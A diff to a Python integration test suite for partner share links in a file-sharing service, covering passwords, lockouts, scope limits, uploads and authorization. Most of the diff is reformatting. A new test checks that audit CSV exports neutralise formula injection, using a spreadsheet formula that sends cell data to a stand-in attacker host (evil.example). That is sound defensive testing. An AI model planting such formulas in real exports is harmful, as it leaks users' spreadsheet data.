@@ -13,7 +13,7 @@ import pytest
 import requests
 
 from chalicelib.files.s3 import version_key
-from tests.conftest import eventually
+from tests.conftest import eventually, translated
 from tests.integration.test_files import _api, _folder, upload
 from tests.support.stack import RunningStack
 
@@ -56,8 +56,9 @@ def shared_file(stack: RunningStack, signed_in: Signed) -> dict[str, Any]:
 
 
 def test_password_link_partner_downloads_the_file(stack: RunningStack, shared_file: dict[str, Any]) -> None:
-    link = _share(shared_file["owner"], stack, shared_file["file"]["id"], password="s3cret-pass",
-                  message="ご確認ください")
+    link = _share(
+        shared_file["owner"], stack, shared_file["file"]["id"], password="s3cret-pass", message="ご確認ください"
+    )
     assert "s3cret" not in str(link) and link["has_password"]
     partner = Partner(stack, link["url"])
     opened = partner.open()
@@ -83,7 +84,8 @@ def test_password_link_partner_downloads_the_file(stack: RunningStack, shared_fi
 
 
 def test_a_plain_get_never_counts_and_a_limit_of_n_allows_exactly_n(
-        stack: RunningStack, shared_file: dict[str, Any]) -> None:
+    stack: RunningStack, shared_file: dict[str, Any]
+) -> None:
     link = _share(shared_file["owner"], stack, shared_file["file"]["id"], max_downloads=3)
     partner = Partner(stack, link["url"])
     assert partner.open().status_code == 200
@@ -114,15 +116,19 @@ def test_revocation_and_expiry_take_effect_at_once(stack: RunningStack, shared_f
     assert _api(owner, stack, "POST", f"/api/shares/{link['id']}/revoke").json()["state"] == "revoked"
     assert partner.call("GET", "/folder").status_code == 410
     again = Partner(stack, link["url"]).open()
-    assert again.status_code == 410 and "withdrawn" in again.json()["message"] or again.status_code == 410
+    assert again.status_code == 410
+    assert again.json()["message"] == translated("This link was withdrawn by the person who shared it.")
 
     expiring = _share(owner, stack, shared_file["folder"])
     late = Partner(stack, expiring["url"])
     assert late.open().status_code == 200
     past = (datetime.now(UTC) - timedelta(seconds=1)).strftime("%Y-%m-%dT%H:%M:%S.%f+0000")
-    stack.boto3("dynamodb").update_item(TableName="kumo-share_links", Key={"link_id": {"S": expiring["id"]}},
-                                       UpdateExpression="SET expires_at = :t",
-                                       ExpressionAttributeValues={":t": {"S": past}})
+    stack.boto3("dynamodb").update_item(
+        TableName="kumo-share_links",
+        Key={"link_id": {"S": expiring["id"]}},
+        UpdateExpression="SET expires_at = :t",
+        ExpressionAttributeValues={":t": {"S": past}},
+    )
     assert late.call("GET", "/folder").status_code == 410
     assert Partner(stack, expiring["url"]).open().status_code == 410
 
@@ -141,16 +147,19 @@ def test_password_lock_out_per_link_with_the_time_shown(stack: RunningStack, sha
     first, second = Partner(stack, link["url"]), Partner(stack, link["url"])  # two people, one office IP
     first.open()
     second.open()
-    statuses = [(first if i % 2 else second).call("POST", "/password", json={"password": f"guess{i}"}).status_code
-                for i in range(10)]
+    statuses = [
+        (first if i % 2 else second).call("POST", "/password", json={"password": f"guess{i}"}).status_code
+        for i in range(10)
+    ]
     assert statuses[:9] == [401] * 9 and statuses[9] == 429
     locked = first.call("POST", "/password", json={"password": "correct-horse"})
     assert locked.status_code == 429
     assert re.search(r"\d{2}:\d{2}", locked.json()["message"]), "the time the lock ends is shown"
     detail = _api(shared_file["owner"], stack, "GET", f"/api/shares/{link['id']}").json()
     assert detail["locked_until"]
-    actions = [e["action"] for e in _api(shared_file["owner"], stack, "GET",
-                                         f"/api/shares/{link['id']}/audit").json()["items"]]
+    actions = [
+        e["action"] for e in _api(shared_file["owner"], stack, "GET", f"/api/shares/{link['id']}/audit").json()["items"]
+    ]
     assert actions.count("password_failed") == 10 and "locked" in actions
 
 
@@ -197,13 +206,15 @@ def test_email_verification_by_one_time_code(stack: RunningStack, shared_file: d
     assert partner.call("POST", "/code", json={"code": wrong}).status_code == 401
     assert partner.call("POST", "/code", json={"code": code}).status_code == 200
     assert partner.call("GET", "/folder").status_code == 200
-    actors = {e["actor"] for e in _api(shared_file["owner"], stack, "GET",
-                                       f"/api/shares/{link['id']}/audit").json()["items"]}
+    actors = {
+        e["actor"] for e in _api(shared_file["owner"], stack, "GET", f"/api/shares/{link['id']}/audit").json()["items"]
+    }
     assert f"partner:{address}" in actors
 
 
-def test_a_partner_stays_inside_the_links_scope(stack: RunningStack, shared_file: dict[str, Any],
-                                                signed_in: Signed) -> None:
+def test_a_partner_stays_inside_the_links_scope(
+    stack: RunningStack, shared_file: dict[str, Any], signed_in: Signed
+) -> None:
     owner = shared_file["owner"]
     inner = _folder(owner, stack, shared_file["folder"])
     inside = upload(owner, stack, inner, "内側.txt", b"inside").json()
@@ -212,8 +223,7 @@ def test_a_partner_stays_inside_the_links_scope(stack: RunningStack, shared_file
     partner.open()
     assert [i["name"] for i in partner.call("GET", "/folder").json()["items"]] == ["内側.txt"]
     assert partner.call("POST", f"/files/{inside['id']}/download").status_code == 200
-    for outside in (shared_file["other"]["id"], shared_file["folder"], "../" + shared_file["other"]["id"],
-                    "dept:somu"):
+    for outside in (shared_file["other"]["id"], shared_file["folder"], "../" + shared_file["other"]["id"], "dept:somu"):
         assert partner.call("POST", f"/files/{outside}/download").status_code == 404, outside
         assert partner.call("GET", f"/folders/{outside}").status_code == 404, outside
     # A session opened on one link reaches nothing of another.
@@ -225,7 +235,8 @@ def test_a_partner_stays_inside_the_links_scope(stack: RunningStack, shared_file
 
 
 def test_a_file_request_files_each_uploader_apart_and_waits_for_the_scan(
-        stack: RunningStack, signed_in: Signed) -> None:
+    stack: RunningStack, signed_in: Signed
+) -> None:
     owner = signed_in("sakamoto.j")  # 土木部 admin
     folder = _folder(owner, stack, "dept:doboku")
     link = _share(owner, stack, folder, kind="request", message="図面をこちらにお送りください。")
@@ -235,8 +246,17 @@ def test_a_file_request_files_each_uploader_apart_and_waits_for_the_scan(
     assert first.call("GET", "/folder").status_code == 403, "a file request shows no files"
 
     def send(partner: Partner, who: str, name: str, data: bytes, path: str | None = None) -> requests.Response:
-        ticket = partner.call("POST", "/uploads", json={"uploader_name": who, "name": name, "size": len(data),
-                                                        "content_type": "text/plain", "relative_path": path})
+        ticket = partner.call(
+            "POST",
+            "/uploads",
+            json={
+                "uploader_name": who,
+                "name": name,
+                "size": len(data),
+                "content_type": "text/plain",
+                "relative_path": path,
+            },
+        )
         assert ticket.status_code == 201, ticket.text
         t = ticket.json()
         requests.post(t["url"], data=t["fields"], files={"file": (name, data)}, timeout=30).raise_for_status()
@@ -255,16 +275,22 @@ def test_a_file_request_files_each_uploader_apart_and_waits_for_the_scan(
     plan = _api(owner, stack, "GET", f"/api/folders/{drawings[0]['id']}").json()["items"][0]
     assert plan["scan_status"] in ("pending", "clean")
 
-    inbox = eventually(lambda: [n for n in _api(owner, stack, "GET", "/api/notifications").json()["items"]
-                                if n["kind"] == "partner_upload" and "平面図.txt" in n["text"]])
+    inbox = eventually(
+        lambda: [
+            n
+            for n in _api(owner, stack, "GET", "/api/notifications").json()["items"]
+            if n["kind"] == "partner_upload" and "平面図.txt" in n["text"]
+        ]
+    )
     assert inbox
     mail = stack.kumo("outbox", "--to", "sakamoto.j@pref.example.lg.jp", check=True).stdout
     assert "山田建設 鈴木" in mail
 
 
 def _send(partner: Partner, who: str, name: str, data: bytes) -> dict[str, Any]:
-    ticket = partner.call("POST", "/uploads", json={"uploader_name": who, "name": name, "size": len(data),
-                                                    "content_type": "text/plain"})
+    ticket = partner.call(
+        "POST", "/uploads", json={"uploader_name": who, "name": name, "size": len(data), "content_type": "text/plain"}
+    )
     assert ticket.status_code == 201, ticket.text
     t = ticket.json()
     requests.post(t["url"], data=t["fields"], files={"file": (name, data)}, timeout=30).raise_for_status()
@@ -274,7 +300,8 @@ def _send(partner: Partner, who: str, name: str, data: bytes) -> dict[str, Any]:
 
 
 def test_an_exchange_shows_each_partner_only_what_they_sent_and_tags_it_for_the_scan(
-        stack: RunningStack, signed_in: Signed) -> None:
+    stack: RunningStack, signed_in: Signed
+) -> None:
     owner = signed_in("tanaka.h")
     folder = _folder(owner, stack, "dept:somu")
     staff_file = upload(owner, stack, folder, "配布資料.txt", b"from the prefecture").json()
@@ -284,17 +311,18 @@ def test_an_exchange_shows_each_partner_only_what_they_sent_and_tags_it_for_the_
     second.open()
     assert first.call("GET", "/uploads").json()["items"] == []
     mine = _send(first, "山田建設 鈴木", "回答書.txt", b"first answer")
-    _send(second, "九州設計 佐藤", "回答書.txt", b"the second partner's answer")  # same name: version 2
+    theirs = _send(second, "九州設計 佐藤", "回答書.txt", b"the second partner's answer")  # never a version of mine
+    assert (theirs["name"], theirs["version"]) == ("回答書 (2).txt", 1)
     _send(second, "九州設計 佐藤", "別紙.txt", b"annex")
     seen = first.call("GET", "/uploads").json()["items"]
     assert [(e["id"], e["name"], e["size"]) for e in seen] == [(mine["id"], "回答書.txt", len(b"first answer"))]
-    assert [e["name"] for e in second.call("GET", "/uploads").json()["items"]] == ["別紙.txt", "回答書.txt"]
+    assert [e["name"] for e in second.call("GET", "/uploads").json()["items"]] == ["別紙.txt", "回答書 (2).txt"]
 
     s3 = stack.boto3("s3")
     bucket = "kumo-files-123456789012"  # the local stack's default prefix and account
-    for version in (1, 2):
-        tags = s3.get_object_tagging(Bucket=bucket, Key=version_key("dept:somu", mine["id"], version))["TagSet"]
-        assert {"Key": "kumo-scan", "Value": "required"} in tags, f"version {version}: {tags}"
+    for sent in (mine, theirs):
+        tags = s3.get_object_tagging(Bucket=bucket, Key=version_key("dept:somu", sent["id"], 1))["TagSet"]
+        assert {"Key": "kumo-scan", "Value": "required"} in tags, f"{sent['name']}: {tags}"
     staff_tags = s3.get_object_tagging(Bucket=bucket, Key=version_key("dept:somu", staff_file["id"], 1))["TagSet"]
     assert staff_tags == [], "a staff upload is not held for a scan"
 
@@ -303,18 +331,24 @@ def test_partners_cannot_upload_through_a_download_link(stack: RunningStack, sha
     link = _share(shared_file["owner"], stack, shared_file["folder"])
     partner = Partner(stack, link["url"])
     partner.open()
-    response = partner.call("POST", "/uploads", json={"uploader_name": "x", "name": "a.txt", "size": 1,
-                                                      "content_type": "text/plain"})
+    response = partner.call(
+        "POST", "/uploads", json={"uploader_name": "x", "name": "a.txt", "size": 1, "content_type": "text/plain"}
+    )
     assert response.status_code == 403
 
 
 def test_link_options_are_checked(stack: RunningStack, shared_file: dict[str, Any]) -> None:
     owner, target = shared_file["owner"], shared_file["file"]["id"]
-    cases = [({"kind": "request"}, 400),  # a request link needs a folder
-             ({"expires_in_days": 365}, 400), ({"expires_in_days": -1}, 400),
-             ({"password": "short"}, 400), ({"max_downloads": 0}, 400),
-             ({"verify_email": True}, 400), ({"recipients": ["not-an-address"]}, 400),
-             ({"kind": "everything"}, 400)]
+    cases = [
+        ({"kind": "request"}, 400),  # a request link needs a folder
+        ({"expires_in_days": 365}, 400),
+        ({"expires_in_days": -1}, 400),
+        ({"password": "short"}, 400),
+        ({"max_downloads": 0}, 400),
+        ({"verify_email": True}, 400),
+        ({"recipients": ["not-an-address"]}, 400),
+        ({"kind": "everything"}, 400),
+    ]
     for options, status in cases:
         response = _api(owner, stack, "POST", "/api/shares", json={"target_id": target, **options})
         assert response.status_code == status, options
@@ -335,8 +369,14 @@ def test_authorization_matrix_for_sharing_endpoints(stack: RunningStack, signed_
     anonymous = requests.Session()
     anonymous.get(f"{stack.base_url}/login", timeout=30)
     anonymous.headers["X-CSRF-Token"] = anonymous.cookies.get("kumo_csrf", "")
-    client = {"owner": owner, "same_department": signed_in("kondo.m"), "other_department": signed_in("kimura.t"),
-              "admin": signed_in("admin"), "anonymous": anonymous, "partner": partner.http}[role]
+    client = {
+        "owner": owner,
+        "same_department": signed_in("kondo.m"),
+        "other_department": signed_in("kimura.t"),
+        "admin": signed_in("admin"),
+        "anonymous": anonymous,
+        "partner": partner.http,
+    }[role]
     calls = {
         "read": ("GET", f"/api/shares/{link['id']}", None),
         "list": ("GET", f"/api/shares?target_id={entry['id']}", None),
@@ -348,15 +388,47 @@ def test_authorization_matrix_for_sharing_endpoints(stack: RunningStack, signed_
         "revoke": ("POST", f"/api/shares/{link['id']}/revoke", None),
     }
     expected = {
-        "owner": {"read": 200, "list": 200, "audit": 200, "file_audit": 200, "change": 200, "reissue": 200,
-                  "create": 201, "revoke": 200},
+        "owner": {
+            "read": 200,
+            "list": 200,
+            "audit": 200,
+            "file_audit": 200,
+            "change": 200,
+            "reissue": 200,
+            "create": 201,
+            "revoke": 200,
+        },
         # a colleague sees the file (department visibility) and may share it, but not manage others' links
-        "same_department": {"read": 404, "list": 200, "audit": 404, "file_audit": 403, "change": 404,
-                            "reissue": 404, "create": 201, "revoke": 404},
-        "other_department": {"read": 404, "list": 404, "audit": 404, "file_audit": 404, "change": 404,
-                             "reissue": 404, "create": 404, "revoke": 404},
-        "admin": {"read": 200, "list": 200, "audit": 200, "file_audit": 200, "change": 200, "reissue": 200,
-                  "create": 201, "revoke": 200},
+        "same_department": {
+            "read": 404,
+            "list": 200,
+            "audit": 404,
+            "file_audit": 403,
+            "change": 404,
+            "reissue": 404,
+            "create": 201,
+            "revoke": 404,
+        },
+        "other_department": {
+            "read": 404,
+            "list": 404,
+            "audit": 404,
+            "file_audit": 404,
+            "change": 404,
+            "reissue": 404,
+            "create": 404,
+            "revoke": 404,
+        },
+        "admin": {
+            "read": 200,
+            "list": 200,
+            "audit": 200,
+            "file_audit": 200,
+            "change": 200,
+            "reissue": 200,
+            "create": 201,
+            "revoke": 200,
+        },
         "anonymous": dict.fromkeys(calls, 401),
         "partner": dict.fromkeys(calls, 401),
     }[role]
@@ -394,15 +466,20 @@ def test_download_all_as_one_zip_keeps_names_and_tree(stack: RunningStack, signe
 
 
 def test_a_partner_form_without_its_csrf_field_gets_the_partners_own_error_page(
-        stack: RunningStack, shared_file: dict[str, Any]) -> None:
+    stack: RunningStack, shared_file: dict[str, Any]
+) -> None:
     from tests.support.stack import csrf_from
 
     link = _share(shared_file["owner"], stack, shared_file["file"]["id"], password="s3cret-pass")
     browser = requests.Session()
     opener = browser.get(f"{stack.base_url}/s", timeout=30)
     token = link["url"].split("#", 1)[1]
-    opened = browser.post(f"{stack.base_url}/s/open", data={"token": token, "csrf_token": csrf_from(opener.text)},
-                          allow_redirects=False, timeout=30)
+    opened = browser.post(
+        f"{stack.base_url}/s/open",
+        data={"token": token, "csrf_token": csrf_from(opener.text)},
+        allow_redirects=False,
+        timeout=30,
+    )
     assert opened.status_code == 303
     for form in ({"password": "s3cret-pass"}, {"password": "s3cret-pass", "csrf_token": "forged"}):
         refused = browser.post(f"{stack.base_url}/s/password", data=form, allow_redirects=False, timeout=30)
@@ -413,3 +490,30 @@ def test_a_partner_form_without_its_csrf_field_gets_the_partners_own_error_page(
         assert 'href="/files' not in refused.text, "not the staff layout"
     page = browser.get(f"{stack.base_url}/s/view", timeout=30)
     assert 'data-testid="password-form"' in page.text, "nothing was let through"
+
+
+def test_the_audit_csv_shows_a_partners_formula_text_as_text(stack: RunningStack, signed_in: Signed) -> None:
+    """A file named =1+2.txt and a partner whose user agent is a formula: Excel must show both as text."""
+    import csv
+    import io
+
+    owner = signed_in("tanaka.h")
+    folder = _folder(owner, stack, "dept:somu")
+    name = f"=1+2_{uuid.uuid4().hex[:6]}.txt"
+    entry = upload(owner, stack, folder, name, b"formula").json()
+    link = _share(owner, stack, entry["id"])
+    agent = '=HYPERLINK("https://evil.example/?"&A1,"Details")'
+    partner = Partner(stack, link["url"])
+    partner.http.headers["User-Agent"] = agent
+    assert partner.open().status_code == 200
+    assert partner.call("POST", f"/files/{entry['id']}/download").status_code == 200
+    partner.http.headers["User-Agent"] = "@SUM(A1:A9)"
+    assert partner.call("GET", "/folder").status_code == 200
+
+    for path in (f"/api/shares/{link['id']}/audit?format=csv", f"/api/files/{entry['id']}/audit?format=csv"):
+        exported = _api(owner, stack, "GET", path)
+        assert exported.status_code == 200 and exported.content.startswith(b"\xef\xbb\xbf")
+        rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"), newline="")))
+        cells = [cell for row in rows[1:] for cell in row]
+        assert "'" + agent in cells and "'" + name in cells
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
